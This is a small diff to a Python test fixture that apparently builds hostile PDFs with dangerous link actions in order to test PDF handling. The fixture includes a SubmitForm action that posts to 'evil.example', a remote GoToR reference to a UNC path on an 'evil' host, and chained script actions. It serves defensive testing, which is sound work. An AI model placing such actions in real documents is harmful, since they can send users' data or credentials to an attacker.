@@ -198,7 +198,9 @@ def hostile_pdfs():
         "link-gotor": _link(Dictionary(S=Name.GoToR, F=String("\\\\evil\\a.pdf"), D=Array([0]))),
         "link-gotoe": _link(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("e")))),
         "link-submit": _link(
-            Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/")))
+            Dictionary(
+                S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/"))
+            )
         ),
         "link-chain": _link(
             Dictionary(S=Name.GoTo, D=Array([0]), Next=Array([script(), script()]))
